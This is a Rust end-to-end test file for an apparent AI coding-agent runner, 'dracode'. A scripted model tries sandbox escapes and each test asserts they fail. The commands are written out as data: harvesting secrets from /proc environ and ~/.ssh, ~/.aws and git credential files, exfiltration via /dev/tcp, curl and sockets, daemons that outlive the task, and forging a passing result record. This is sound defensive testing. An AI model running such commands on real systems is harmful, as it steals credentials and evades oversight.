//! Issue 8, end to end: each attack of the issue tried through the real binary by a scripted
//! model (`replay`), against a real git repository. Every test shows the attack fails and the
//! task still ends with an honest status, its final message coming after the attack.
//!
//! When this machine cannot confine (no Landlock or seccomp), the confined scenarios only print
//! why and return: that refusal is covered by the sandbox unit tests.

use crate::support::cli::{dracode, files_containing, finished, git, git_repo, read_jsonl};
use crate::support::sandbox::{alive, supported};
use serde_json::{Value, json};
use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// What the scripted model says once its commands have run.
const FINAL: &str = "final words after the attack";

/// A scratch layout: `repo/` (a git repository with one commit), `home/` (the HOME dracode
/// runs with) and the manifest and replay next to them.
pub(crate) struct Scenario {
    _dir: tempfile::TempDir,
    pub(crate) root: PathBuf,
    pub(crate) repo: PathBuf,
    pub(crate) home: PathBuf,
}

/// What one run of dracode left.
pub(crate) struct Run {
    pub(crate) code: i32,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
    pub(crate) out: PathBuf,
    pub(crate) events: Vec<Value>,
}

impl Scenario {
    pub(crate) fn new() -> Scenario {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let (repo, home) = (root.join("repo"), root.join("home"));
        git_repo(&repo, &[("src/lib.txt", "original\n"), ("README.md", "project\n")]);
        std::fs::create_dir_all(&home).unwrap();
        Scenario { _dir: dir, root, repo, home }
    }

    /// Runs one task `attack` whose model runs each of `commands` with `run_command` (shell),
    /// then answers [`FINAL`]. `fields` go into `[defaults]` (`repo = "repo"`,
    /// `isolation = "copy"` and `require_change = false` unless they set them: an attack is judged
    /// by what it reached, not by a change); `env` is dracode's environment on top of PATH and HOME.
    pub(crate) fn run(&self, name: &str, commands: &[String], fields: &str, env: &[(&str, &str)], args: &[&str]) -> Run {
        self.run_batch(name, "", fields, &[("attack", commands)], env, args)
    }

    /// As [`Scenario::run`], for one task per `(id, commands)` (each with its own recording in
    /// the folder `replay-{name}`), after a `[setup]` whose table body is `setup` (none when empty).
    pub(crate) fn run_batch(
        &self,
        name: &str,
        setup: &str,
        fields: &str,
        tasks: &[(&str, &[String])],
        env: &[(&str, &str)],
        args: &[&str],
    ) -> Run {
        let replay = self.root.join(format!("replay-{name}"));
        std::fs::create_dir_all(&replay).unwrap();
        let mut defaults = format!("provider = \"replay\"\nreplay = \"replay-{name}\"\n{fields}\n");
        for (key, value) in [("repo", "\"repo\""), ("isolation", "\"copy\""), ("require_change", "false")] {
            if !fields.contains(&format!("{key} =")) {
                defaults.push_str(&format!("{key} = {value}\n"));
            }
        }
        let setup = if setup.is_empty() { String::new() } else { format!("[setup]\n{setup}\n\n") };
        let mut manifest = format!("{setup}[defaults]\n{defaults}");
        for (id, commands) in tasks {
            let turns = crate::support::cli::shell_turns(commands, 20, FINAL);
            std::fs::write(replay.join(format!("{id}.json")), turns.to_string()).unwrap();
            manifest.push_str(&format!("[[tasks]]\nid = \"{id}\"\nprompt = \"do as the issue says\"\n"));
        }
        std::fs::write(self.root.join(format!("{name}.toml")), manifest).unwrap();
        let out = self.root.join(format!("out-{name}"));
        let mut all = vec!["run".to_string(), format!("{name}.toml")];
        if !args.contains(&"--out") {
            all.extend(["--out".to_string(), out.display().to_string()]);
        }
        all.extend(args.iter().map(ToString::to_string));
        self.launch(&all, &out, env)
    }

    /// Runs `dracode args` in the scratch folder with its HOME and `env` on top; the results
    /// are read from `out`.
    pub(crate) fn launch(&self, args: &[String], out: &Path, env: &[(&str, &str)]) -> Run {
        let mut cmd = dracode(&self.root);
        cmd.env("HOME", &self.home).args(args);
        for (k, v) in env {
            cmd.env(k, v);
        }
        let output = cmd.output().unwrap();
        let results = out.join("results.jsonl");
        Run {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
            events: if results.exists() { read_jsonl(&results) } else { Vec::new() },
            out: out.to_path_buf(),
        }
    }
}

impl Run {
    /// The outputs of the tool calls, in order, as results.jsonl has them (redacted).
    pub(crate) fn outputs(&self) -> Vec<&str> {
        self.events.iter().filter(|e| e["type"] == "tool.completed").map(|e| e["output"].as_str().unwrap_or("")).collect()
    }

    /// Every tool output, joined (for assertions that do not care which call).
    pub(crate) fn all_output(&self) -> String {
        self.outputs().join("\n---\n")
    }

    fn task(&self) -> &Value {
        self.finished("attack")
    }

    /// The `task.finished` of task `id`.
    pub(crate) fn finished(&self, id: &str) -> &Value {
        finished(&self.events, id)
    }

    /// The task ended `status`, and the model's final words (after the attack) were recorded.
    pub(crate) fn assert_finished(&self, status: &str) {
        assert_eq!(self.task()["status"], status, "exit {}\nstderr: {}\noutputs: {}", self.code, self.stderr, self.all_output());
        assert!(
            self.events.iter().any(|e| e["type"] == "agent.message" && e["text"].as_str().is_some_and(|t| t.contains(FINAL))),
            "the final message is missing: {:?}",
            self.events.iter().map(|e| &e["type"]).collect::<Vec<_>>()
        );
    }

    /// `needle` is in no artifact, nor on stdout/stderr.
    pub(crate) fn assert_nowhere(&self, needle: &str) {
        assert_eq!(files_containing(&self.out, needle), Vec::<PathBuf>::new(), "{needle} is in an artifact");
        assert!(
            !self.stdout.contains(needle) && !self.stderr.contains(needle),
            "{needle} on stdout/stderr:\n{}\n{}",
            self.stdout,
            self.stderr
        );
    }
}

/// The number in `name=N` of `text`.
pub(crate) fn value_of(text: &str, name: &str) -> Option<String> {
    let start = text.find(&format!("{name}="))? + name.len() + 1;
    Some(text[start..].split_whitespace().next().unwrap_or("").to_string())
}

#[test]
fn attack_proc_environ_of_dracode_is_unreadable() {
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let secrets = [
        ("OPENAI_API_KEY", "sk-attack-7f3a9c1e5b2d4f60"),
        ("DATABASE_URL", "postgres://u:pw-attack-4242@h/db"),
        ("MY_CRED", "mycred-attack-9931"),
    ];
    // Redaction would mask a leaked value in the outputs, so the commands report counts: a
    // masked hit still counts.
    let commands = [
        "cat /proc/$PPID/environ; echo; tr '\\0' '\\n' < /proc/$PPID/environ | grep -c -E 'attack-' ; echo ppid-rc=$?".to_string(),
        "n=0; for f in /proc/[0-9]*/environ; do if cat $f 2>/dev/null | tr '\\0' '\\n' | grep -q -E 'attack-(7f3a|4242|9931)'; then n=$((n+1)); fi; done; echo environ-hits=$n".to_string(),
        "env; echo env-hits=$(env | grep -c -E '^(DATABASE_URL|MY_CRED|OPENAI_API_KEY)=')".to_string(),
    ];
    let r = s.run("environ", &commands, "", &secrets, &[]);
    r.assert_finished("passed");
    let out = r.outputs();
    assert_eq!(value_of(out[0], "ppid-rc").as_deref(), Some("1"), "grep found the secret in the parent: {}", out[0]);
    assert_eq!(value_of(out[1], "environ-hits").as_deref(), Some("0"), "{}", out[1]);
    assert_eq!(value_of(out[2], "env-hits").as_deref(), Some("0"), "{}", out[2]);
    assert!(!out[2].contains("DATABASE_URL") && !out[2].contains("MY_CRED"), "{}", out[2]);
    assert!(out[2].contains("PATH="), "env ran: {}", out[2]);
    for (_, secret) in secrets {
        r.assert_nowhere(secret);
    }
}

/// A listener on 127.0.0.1 recording every byte it receives (the exfiltration target).
pub(crate) fn exfiltration_target() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let seen = got.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let seen = seen.clone();
            std::thread::spawn(move || {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                let mut buf = Vec::new();
                let _ = stream.read_to_end(&mut buf);
                seen.lock().unwrap().extend_from_slice(b"<connection>");
                seen.lock().unwrap().extend(buf);
            });
        }
    });
    (port, got)
}

#[test]
fn attack_network_exfiltration_is_blocked() {
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let (port, got) = exfiltration_target();
    let commands = [
        format!("bash -c 'echo stolen-bash > /dev/tcp/127.0.0.1/{port}' 2>&1; echo bash-rc=$?"),
        format!(
            "if command -v curl >/dev/null; then curl -s -m 3 -d stolen-curl http://127.0.0.1:{port}/; echo curl-rc=$?; else echo curl-rc=absent; fi"
        ),
        format!(
            "if command -v python3 >/dev/null; then python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 3).sendall(b\"stolen-py\")' 2>&1 | tail -1; echo py-rc=$?; else echo py-rc=absent; fi"
        ),
    ];
    let r = s.run("net", &commands, "", &[], &[]);
    r.assert_finished("passed");
    let all = r.all_output();
    assert!(all.contains("Operation not permitted") || all.contains("Permission denied"), "{all}");
    assert_ne!(value_of(&all, "bash-rc").as_deref(), Some("0"), "{all}");
    assert_ne!(value_of(&all, "curl-rc").as_deref(), Some("0"), "{all}");
    std::thread::sleep(Duration::from_millis(200));
    assert!(got.lock().unwrap().is_empty(), "the listener received {:?}", String::from_utf8_lossy(&got.lock().unwrap()));

    // The same attack with `network = true` reaches the listener: the test can fail.
    let r = s.run("net-open", &commands[..1], "network = true", &[], &[]);
    r.assert_finished("passed");
    let deadline = Instant::now() + Duration::from_secs(5);
    while !String::from_utf8_lossy(&got.lock().unwrap()).contains("stolen-bash") && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(String::from_utf8_lossy(&got.lock().unwrap()).contains("stolen-bash"), "{}", r.all_output());
}

#[test]
fn attack_credentials_in_home_are_unreadable() {
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let marker = "cred-marker-5e1f";
    let files = [".git-credentials", ".config/gh/hosts.yml", ".ssh/id_rsa", ".aws/credentials", ".netrc"];
    for file in files {
        let path = s.home.join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, format!("secret {marker} in {file}\n")).unwrap();
    }
    std::fs::write(s.home.join("notes.txt"), "public notes\n").unwrap();
    let home = s.home.display();
    let commands: Vec<String> =
        files.iter().map(|f| format!("cat {home}/{f} 2>&1; echo rc=$?")).chain([format!("cat {home}/notes.txt 2>&1")]).collect();
    let r = s.run("home", &commands, "", &[], &[]);
    r.assert_finished("passed");
    let out = r.outputs();
    for (file, output) in files.iter().zip(&out) {
        assert!(!output.contains(marker), "{file} was read: {output}");
        assert_ne!(value_of(output, "rc").as_deref(), Some("0"), "{file}: {output}");
    }
    // Reads are an allowlist: an ordinary file in HOME is no more readable than a credential.
    assert!(!out[files.len()].contains("public notes"), "an unlisted HOME file was read: {}", out[files.len()]);
    assert!(out[files.len()].contains("Permission denied"), "{}", out[files.len()]);
    r.assert_nowhere(marker);

    // With isolate_home the command's HOME is another folder, and the real one cannot be found
    // through the environment of dracode (or of any other process).
    let commands = [format!(
        "echo home=$HOME; n=0; for f in /proc/$PPID/environ /proc/[0-9]*/environ; do if cat $f 2>/dev/null | tr '\\0' '\\n' | grep -q -F '{home}'; then n=$((n+1)); fi; done; echo found=$n"
    )];
    let r = s.run("isolated", &commands, "isolate_home = true", &[], &[]);
    r.assert_finished("passed");
    let out = r.all_output();
    assert!(!value_of(&out, "home").unwrap_or_default().starts_with(&home.to_string()), "{out}");
    assert_eq!(value_of(&out, "found").as_deref(), Some("0"), "the real HOME was found: {out}");
}

/// A repository whose `.git/config` holds what `actions/checkout` persists.
fn with_extraheader(s: &Scenario, marker: &str) {
    git(&s.repo, &["config", "http.https://github.com/.extraheader", &format!("AUTHORIZATION: basic {marker}")]);
}

fn extraheader_attack(isolation: &str) {
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let marker = "eh-marker-b64Zm9vOmJhcg";
    with_extraheader(&s, marker);
    let repo = s.repo.display();
    let commands = [
        format!("cat {repo}/.git/config 2>&1; echo rc=$?"),
        "git config --get-regexp extraheader; echo rc=$?; cat .git/config 2>&1 | grep -c extraheader".to_string(),
        // The marker is split so that the command line itself does not carry it.
        format!("m={}; grep -r -s -l \"$m{}\" {repo} 2>&1 | head -5; echo grep-done", &marker[..9], &marker[9..]),
    ];
    let r = s.run(&format!("extraheader-{isolation}"), &commands, &format!("isolation = \"{isolation}\""), &[], &[]);
    r.assert_finished("passed");
    let all = r.all_output();
    assert!(!all.contains(marker), "the extraheader was read:\n{all}");
    assert!(all.contains("grep-done"), "{all}");
    r.assert_nowhere(marker);
}

#[test]
fn attack_extraheader_in_the_repository_config_is_unreadable() {
    extraheader_attack("copy");
}

#[test]
fn attack_extraheader_in_the_repository_config_is_unreadable_from_a_worktree() {
    extraheader_attack("worktree");
}

#[test]
fn attack_setsid_daemon_does_not_outlive_the_task() {
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let commands = ["setsid sh -c 'echo $$ > pid1; exec sleep 300' >/dev/null 2>&1 & \
                     sh -c '(sleep 301 >/dev/null 2>&1 & echo $! > pid2) &'; \
                     sleep 0.3; echo pids $(cat pid1) $(cat pid2) end"
        .to_string()];
    let r = s.run("daemon", &commands, "", &[], &[]);
    r.assert_finished("passed");
    let out = r.all_output();
    let pids: Vec<u32> =
        out.split("pids").nth(1).unwrap_or("").split_whitespace().take_while(|w| *w != "end").filter_map(|w| w.parse().ok()).collect();
    assert_eq!(pids.len(), 2, "{out}");
    for pid in pids {
        assert!(!alive(pid), "process {pid} outlived the task");
    }
}

#[test]
fn attack_writes_outside_the_workspace_fail() {
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let stray = std::env::temp_dir().join(format!("dracode-attack-{}", std::process::id()));
    let (repo, home) = (s.repo.display(), s.home.display());
    let commands = [
        format!("echo x > {repo}/planted.txt; echo x >> {repo}/README.md; echo repo-rc=$?"),
        format!("echo x > {home}/planted; echo home-rc=$?"),
        format!("echo x > {}; echo tmp-rc=$?", stray.display()),
        "echo inside > inside.txt && echo x > \"$TMPDIR/t\" && echo inside-ok".to_string(),
    ];
    let r = s.run("writes", &commands, "", &[], &[]);
    r.assert_finished("passed");
    let out = r.all_output();
    for name in ["repo-rc", "home-rc", "tmp-rc"] {
        assert_ne!(value_of(&out, name).as_deref(), Some("0"), "{name}: {out}");
    }
    assert!(!s.repo.join("planted.txt").exists() && !s.home.join("planted").exists(), "{out}");
    assert!(!stray.exists(), "{out}");
    let _ = std::fs::remove_file(&stray);
    assert_eq!(std::fs::read_to_string(s.repo.join("README.md")).unwrap(), "project\n");
    assert_eq!(git(&s.repo, &["status", "--porcelain"]), "");
    assert!(out.contains("inside-ok"), "{out}");
    assert_eq!(r.task()["files_changed"], json!(["inside.txt"]), "{}", r.task());
}

#[test]
fn attack_sudo_and_privileges() {
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let commands = [
        "grep -E '^(NoNewPrivs|CapEff):' /proc/self/status".to_string(),
        "if command -v sudo >/dev/null; then sudo -n true 2>&1; echo sudo-rc=$?; else echo sudo-rc=absent; fi".to_string(),
    ];
    let r = s.run("privs", &commands, "", &[], &[]);
    r.assert_finished("passed");
    let out = r.outputs();
    let field = |name: &str| out[0].lines().find(|l| l.starts_with(name)).and_then(|l| l.split_whitespace().nth(1)).map(str::to_string);
    assert_eq!(field("NoNewPrivs:").as_deref(), Some("1"), "{}", out[0]);
    assert_eq!(field("CapEff:").as_deref(), Some("0000000000000000"), "{}", out[0]);
    let sudo = value_of(out[1], "sudo-rc");
    assert!(sudo.is_some() && sudo.as_deref() != Some("0"), "sudo worked: {}", out[1]);
}

#[test]
fn read_only_mode_cannot_write_the_workspace() {
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let commands = [
        "echo x > new.txt; echo new-rc=$?; echo y >> README.md; echo edit-rc=$?; rm -f src/lib.txt; cat src/lib.txt; echo t > \"$TMPDIR/t\" && echo tmp-ok".to_string(),
    ];
    let r = s.run("readonly", &commands, "sandbox = \"read-only\"", &[], &[]);
    r.assert_finished("passed");
    let out = r.all_output();
    assert_ne!(value_of(&out, "new-rc").as_deref(), Some("0"), "{out}");
    assert_ne!(value_of(&out, "edit-rc").as_deref(), Some("0"), "{out}");
    assert!(out.contains("original") && out.contains("tmp-ok"), "{out}");
    assert_eq!(r.task()["files_changed"], json!([]), "{}", r.task());
    assert!(r.events[0]["warnings"].is_null(), "no warning without sandbox = off: {}", r.events[0]);
}

#[test]
fn sandbox_off_runs_unconfined_with_a_warning() {
    let s = Scenario::new();
    let commands = ["grep -E '^NoNewPrivs:' /proc/self/status".to_string()];
    let r = s.run("off", &commands, "sandbox = \"off\"", &[], &[]);
    r.assert_finished("passed");
    assert!(r.all_output().contains("NoNewPrivs:\t0"), "unconfined: {}", r.all_output());
    let warning = "commands of 1 task(s) ran unconfined (sandbox = \"off\")";
    assert!(r.stderr.contains(&format!("warning: {warning}")), "{}", r.stderr);
    assert_eq!(r.events[0]["type"], "run.started");
    assert_eq!(r.events[0]["warnings"], json!([warning]));
    let schema = jsonschema::validator_for(&dracode_results::records::events_schema()).unwrap();
    assert!(r.events.iter().all(|e| schema.is_valid(e)), "results.jsonl follows `dracode schema events`");
    let md = std::fs::read_to_string(r.out.join("summary.md")).unwrap();
    assert!(md.contains("### ⚠️ Warnings") && md.contains(warning), "{md}");
}

#[test]
fn attack_results_cannot_be_rewritten_with_isolation_none() {
    let s = Scenario::new();
    // --out inside the folder the task edits in place is refused before anything runs, even
    // where git ignores it.
    std::fs::write(s.repo.join(".gitignore"), "dracode-out/\n").unwrap();
    for args in [vec!["--out", "repo/out"], vec!["--out", "repo/dracode-out"]] {
        let r = s.run("none", &[], "isolation = \"none\"", &[], &args);
        assert_eq!(r.code, 2, "{}", r.stderr);
        assert!(r.stderr.contains("error: --out") && r.stderr.contains("isolation = \"none\""), "{}", r.stderr);
        assert!(r.stderr.contains(&s.repo.join(args[1].trim_start_matches("repo/")).display().to_string()), "{}", r.stderr);
        assert!(!s.repo.join(args[1].trim_start_matches("repo/")).exists());
    }
    std::fs::remove_file(s.repo.join(".gitignore")).unwrap();

    if !supported() {
        return;
    }
    // With --out outside, the agent cannot reach it: a failing task stays failed.
    let out = s.root.join("out-none");
    let results = out.join("results.jsonl");
    let forged = r#"{"type":"task.finished","task_id":"attack","status":"passed"}"#;
    let commands = [format!("echo '{forged}' >> {}; echo rc=$?; echo x > {}/summary.md; echo rc2=$?", results.display(), out.display())];
    let r = s.run("none", &commands, "isolation = \"none\"\ncheck = \"false\"", &[], &[]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    r.assert_finished("failed");
    let all = r.all_output();
    assert_ne!(value_of(&all, "rc").as_deref(), Some("0"), "{all}");
    assert_ne!(value_of(&all, "rc2").as_deref(), Some("0"), "{all}");
    assert!(!std::fs::read_to_string(&results).unwrap().contains(forged));
    assert!(std::fs::read_to_string(out.join("summary.md")).unwrap().starts_with("## ❌"));
}

#[test]
fn out_inside_an_edited_repository_is_refused_when_it_holds_the_users_files() {
    let s = Scenario::new();
    // Inside the repository a task works on (a copy of), a folder of the user's: refused,
    // naming flag, path and a file.
    let r = s.run("plain", &[], "", &[], &["--out", "repo/src"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    let expected = format!("--out {} holds lib.txt, which dracode did not write", s.repo.join("src").display());
    assert!(r.stderr.contains(&expected), "{}", r.stderr);
    assert_eq!(std::fs::read_to_string(s.repo.join("src/lib.txt")).unwrap(), "original\n");
    assert!(!s.repo.join("src/results.jsonl").exists());

    // Once git ignores it, the same --out is accepted (also before the folder exists).
    std::fs::write(s.repo.join(".gitignore"), "/dracode-out/\n").unwrap();
    let r = s.run("plain", &[], "", &[], &["--out", "repo/dracode-out"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(s.repo.join("dracode-out/results.jsonl").exists());
    // The same folder as a worktree's source repository.
    let r = s.run("plain", &[], "isolation = \"worktree\"", &[], &["--out", "repo/dracode-out"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    // A new folder is dracode's own: marked ignored by git, so accepted.
    let r = s.run("plain", &[], "isolation = \"worktree\"", &[], &["--out", "repo/other"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(git(&s.repo, &["status", "--porcelain", "--", "other"]), "");

    // Outside the folder the tasks edit, anything goes (the quickstart's `dracode-out/` in the
    // checkout, for a task on a copy of `examples/quickstart/project`).
    let r = s.run("plain", &[], "repo = \"repo/src\"", &[], &["--out", "repo/elsewhere"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
}

#[test]
fn attack_the_runs_shared_base_and_records_store() {
    // A run's `copy` tasks share a base (its objects borrowed by every task's `.git`, readable)
    // and a records store (private). A later task follows its `alternates` to them: it may read
    // the base, not write it, and it reads nothing of the records, so no earlier task's change.
    if !supported() {
        return;
    }
    let s = Scenario::new();
    let first = ["echo secret-change-XYZ > leaked.txt && echo first-ok".to_string()];
    let objects = "$(cat .git/objects/info/alternates)";
    let second = [
        format!("touch {objects}/planted; echo base-write-rc=$?"),
        format!("echo x >> {objects}/info/alternates; echo base-append-rc=$?"),
        format!("ls {objects}/../../../record.git; echo records-rc=$?"),
        format!("m=secret-change; grep -r \"$m-XYZ\" {objects}/../../../ 2>/dev/null; echo grep-rc=$?"),
        "git cat-file -p HEAD:README.md && git status --porcelain && echo git-ok".to_string(),
    ];
    let r = s.run_batch("shared", "", "", &[("first", &first), ("second", &second)], &[], &["--jobs", "1"]);
    let out = r.all_output();
    assert_eq!(r.finished("first")["files_changed"], json!(["leaked.txt"]), "{out}");
    for name in ["base-write-rc", "base-append-rc", "records-rc"] {
        assert_ne!(value_of(&out, name).as_deref(), Some("0"), "{name}: {out}");
    }
    assert!(!out.contains("secret-change-XYZ"), "the second task read the first one's change:\n{out}");
    assert!(out.contains("project\ngit-ok"), "the task's git reads the base's objects, its status clean:\n{out}");
    assert_eq!(r.finished("second")["files_changed"], json!([]), "{}", r.finished("second"));
}
